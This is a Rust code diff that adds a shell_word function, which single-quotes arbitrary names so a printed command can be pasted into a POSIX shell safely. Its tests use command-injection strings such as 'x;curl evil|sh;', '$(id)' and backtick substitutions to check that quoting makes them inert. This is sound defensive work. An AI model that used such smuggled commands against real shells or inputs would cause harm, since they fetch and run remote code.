@@ -111,6 +111,17 @@ fn table_lines(headers: &[&str], rows: &[Vec<String>]) -> Vec<String> {
         .collect()
 }
 
+/// `text` as one word for a POSIX shell, for a command printed to be
+/// pasted: as it is when it holds nothing a shell reads specially, else in
+/// single quotes (a name an upstream or a client chose may hold anything).
+pub fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':');
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_string();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
 #[cfg(test)]
 mod tests {
     #[test]
@@ -175,5 +186,22 @@ mod tests {
     fn a_new_cause_is_appended() {
         let error = anyhow::anyhow!("disk on fire").context("cannot save the key");
         assert_eq!(error_message(&error), "cannot save the key: disk on fire");
+    }
+
+    #[test]
+    fn a_name_chosen_by_an_upstream_is_one_inert_shell_word() {
+        assert_eq!(shell_word("read_text_file"), "read_text_file");
+        assert_eq!(shell_word("x;curl evil|sh;"), "'x;curl evil|sh;'");
+        assert_eq!(shell_word("it's $(id)"), "'it'\\''s $(id)'");
+        assert_eq!(shell_word(""), "''");
+        // What a shell makes of it is the name itself.
+        for name in ["x;curl evil|sh;", "it's $(id) `id`", "a b\\c", "-rf"] {
+            let out = std::process::Command::new("sh")
+                .arg("-c")
+                .arg(format!("printf %s {}", shell_word(name)))
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8_lossy(&out.stdout), name);
+        }
     }
 }
